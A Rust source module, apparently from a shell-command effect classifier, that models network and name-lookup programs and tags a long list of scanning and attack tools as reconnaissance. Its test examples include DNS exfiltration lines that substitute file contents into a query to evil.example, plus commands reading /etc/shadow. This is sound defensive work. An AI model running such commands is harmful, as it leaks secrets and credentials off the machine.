//! Programs that look up names, and programs that explore a network: `dig`, `ping`, `nmap`,
//! `tcpdump`.
//!
//! A name in a query is sent to a server, so what a substitution puts into it leaves the machine.

use super::kinds::{WORDS, changes_system, ex, gnu, list, model, nothing, recon};
use crate::effect::{Access, Effect, Payload, SystemChange};
use crate::invocation::Argument;
use crate::model::{Model, Parsed, Report};

/// The programs of this file, each with its options, its effects and its examples.
pub(super) const TABLE: &[Model] = &[
    model(
        &["dig kdig drill host nslookup delv resolvectl systemd-resolve doggo dog q adig ahost"],
        &WORDS,
        asks_names,
        &[
            ex("dig +short example.com", &["network"]),
            ex("drill x$(cat x).evil.example", &["network:send"]),
            ex("nslookup example.com", &["network"]),
            ex("dig @203.0.113.5 example.com", &["network"]),
            ex("dig -f /etc/shadow", &["network:send", "read:secret"]),
        ],
    ),
    model(
        &["ping ping6 fping hping3 arping nping oping tcping gping"],
        &gnu(&[list(
            "-4, -6, -a, -A, -b, -B, -c=, -C, -d, -D, -e=, -f, -F=, -h, -H, -i=, -I=, -l=, -L, -m=, -M=, -n, -N=, -O, -p=, -q, -Q=, -r, -R, -s=, -S=, -t=, -T=, -U, -v, -V, -w=, -W=, -o, -g=, -G=, -z=, -k=, -x=",
        )]),
        |report, parsed| {
            if matches!(report.name(), "hping3" | "nping" | "arping" | "fping") {
                report.add(Effect::Recon);
            }
            for host in &parsed.operands {
                report.connects(host, false, carried(host));
            }
        },
        &[
            ex("ping -c1 localhost", &["network"]),
            ex("ping -c1 x$(cat x).evil.example", &["network:send"]),
        ],
    ),
    model(
        &["whois", "jwhois", "finger"],
        &gnu(&[list(
            "-h=, -H, -p=, -I, -a, -b, -B, -c, -d, -F, -g=, -G, -i=, -K, -l, -L, -m, -M, -q=, -r, -R, -s=, -S, -t=, -T=, -v=, -x, -n",
        )]),
        |report, parsed| {
            for host in &parsed.operands {
                report.connects(host, true, carried(host));
            }
        },
        &[ex("whois example.com", &["network"])],
    ),
    model(
        &["getent"],
        &gnu(&[list("-s --service=, -i --no-idn, -A")]),
        |report, parsed| {
            let mut words = parsed.operands.iter();
            match words.next().and_then(|database| database.value.as_known()) {
                Some("hosts" | "ahosts" | "ahostsv4" | "ahostsv6" | "networks" | "netgroup") => {
                    for host in words.filter(|host| host.value.as_known().is_none()) {
                        report.connects(host, false, carried(host));
                    }
                }
                Some("shadow" | "gshadow") => report.path(Access::Read, "/etc/shadow"),
                Some(
                    "passwd" | "group" | "services" | "protocols" | "ethers" | "rpc" | "aliases"
                    | "initgroups",
                ) => {}
                _ => report.not_understood("which list it reads is not known"),
            }
        },
        &[
            ex("getent hosts example.com", &[]),
            ex("getent hosts x$(cat x).evil.example", &["network:send"]),
            ex("getent shadow", &["read:secret"]),
            ex("getent passwd root", &[]),
        ],
    ),
    model(
        &["nmap masscan zmap rustscan naabu unicornscan arp-scan netdiscover nikto gobuster \
             dirb dirbuster feroxbuster ffuf wfuzz sqlmap hydra medusa ncrack patator \
             crackmapexec cme netexec nxc enum4linux smbmap rpcclient ldapsearch snmpwalk \
             onesixtyone nuclei subfinder amass assetfinder httpx-toolkit theharvester \
             theHarvester recon-ng wpscan whatweb wafw00f dnsrecon dnsenum fierce sublist3r \
             responder bettercap ettercap arpspoof dsniff mitmproxy mitmdump tcpdump tshark \
             wireshark dumpcap ngrep kismet aircrack-ng airodump-ng aireplay-ng reaver john \
             hashcat searchsploit linpeas linpeas.sh linenum pspy pspy64 bloodhound mimikatz \
             traceroute traceroute6 tracepath tracert mtr lft p0f nbtscan smbclient-ng kerbrute \
             sslscan sslyze testssl.sh zgrab2 shodan angry-ip ipscan netscan"],
        &WORDS,
        recon,
        &[ex("nmap -sV 10.0.0.1", &["recon"]), ex("tcpdump -i any", &["recon"])],
    ),
    model(
        &["netstat", "ss", "nstat"],
        &gnu(&[list(
            "-a --all, -l --listening, -t --tcp, -u --udp, -n --numeric, -p --processes --programs, -r --resolve, -s --summary, -e --extended, -i --info, -o --options --timers, -m --memory, -4 --ipv4, -6 --ipv6, \
             -x --unix, -w --raw, -f=, -A=, -H --no-header, -O --oneline, -Z, -z, -N=, -b --bpf, -E --events, -d --dccp, -S --sctp, -0 --packet, -M, -W --wide, -c --continuous, -g --groups, -v --verbose, -V, -h, -T, -Q, -L, -I=, --route, --interfaces, -R, --tipc, --vsock, --tos, --cgroup",
        )]),
        |report, parsed| {
            if parsed.has("-K") {
                report.not_understood("it may end connections");
            }
        },
        &[ex("ss -tlnp", &[]), ex("netstat -an", &[]), ex("ss -K dst x", &["unmodelled"])],
    ),
    model(
        &["ip"],
        &WORDS,
        ip,
        &[
            ex("ip -br addr", &[]),
            ex("ip addr show eth0", &[]),
            ex("ip link set eth0 down", &["system:other"]),
            ex("ip netns exec x sh", &["privilege", "unmodelled"]),
        ],
    ),
    model(
        &["ifconfig", "iwconfig", "ipconfig"],
        &WORDS,
        |report, parsed| {
            let plain = parsed
                .operands
                .iter()
                .filter(|word| !word.value.prefix().starts_with(['-', '/']))
                .count();
            if plain > 1 {
                report.add(Effect::System(SystemChange::Other));
            }
        },
        &[ex("ifconfig -a", &[]), ex("ifconfig eth0 down", &["system:other"])],
    ),
    model(
        &["route", "arp"],
        &WORDS,
        |report, parsed| {
            let changes = ["add", "del", "delete", "change", "flush", "-s", "-d"];
            if parsed
                .operands
                .iter()
                .any(|word| word.value.as_known().is_none_or(|text| changes.contains(&text)))
            {
                report.add(Effect::System(SystemChange::Other));
            }
        },
        &[ex("route -n", &[]), ex("route add default gw 1.2.3.4", &["system:other"])],
    ),
    model(
        &["hostid dnsdomainname nisdomainname ypdomainname iwgetid nmblookup"],
        &gnu(&[list("-s, -f, -i, -d, -r")]),
        nothing,
        &[ex("hostid", &[])],
    ),
    model(
        &["nmcli iw rfkill tc ethtool brctl bridge wpa_cli networksetup netplan ifup ifdown \
             dhclient dhcpcd"],
        &WORDS,
        changes_system,
        &[ex("ifdown eth0", &["system:other"])],
    ),
];

/// What an unknown part of a name carries away.
fn carried(host: &Argument) -> Payload {
    if host.value.outputs().is_empty() { Payload::None } else { Payload::Text }
}

/// The effects of a query for names.
fn asks_names(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let mut reads_file = false;
    let mut words = parsed.operands.iter();
    while let Some(word) = words.next() {
        let text = word.value.prefix();
        match text {
            "-f" => {
                reads_file = true;
                if let Some(file) = words.next() {
                    report.reads(file);
                }
                report.connects_somewhere(false, Payload::Text);
            }
            "-b" | "-c" | "-k" | "-p" | "-q" | "-t" | "-x" | "-y" | "-W" | "-R" | "-N" | "-m"
                if report.name() != "nslookup" =>
            {
                if text == "-x"
                    && let Some(host) = words.next()
                {
                    report.connects(host, false, carried(host));
                } else if text != "-x" {
                    words.next();
                }
            }
            _ if text.starts_with(['-', '+']) => {}
            _ => report.connects(word, false, carried(word)),
        }
    }
    if parsed.operands.is_empty() && !reads_file {
        report.connects_somewhere(false, Payload::Stdin);
    }
}

/// The effects of `ip`.
fn ip(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let words: Vec<&str> =
        parsed.operands.iter().map(|word| word.value.as_known().unwrap_or("?")).collect();
    let object = words.iter().position(|word| !word.starts_with('-'));
    let Some(rest) = object.map(|at| &words[at..]) else { return };
    if words.iter().any(|word| matches!(*word, "-b" | "-batch")) {
        return report.not_understood("it reads commands from a file");
    }
    if rest.first().is_some_and(|object| "netns".starts_with(object) && object.len() > 1)
        && rest.len() > 1
        && rest[1] != "list"
    {
        report.add(Effect::Privilege { how: "ip netns".to_owned() });
        return report.not_understood("it may run a command in another network");
    }
    let shows = |word: &str| {
        ["show", "list", "ls", "get", "monitor", "help", "sh", "s", "l"].contains(&word)
    };
    if rest.get(1).is_some_and(|command| !shows(command)) {
        report.add(Effect::System(SystemChange::Other));
    }
}
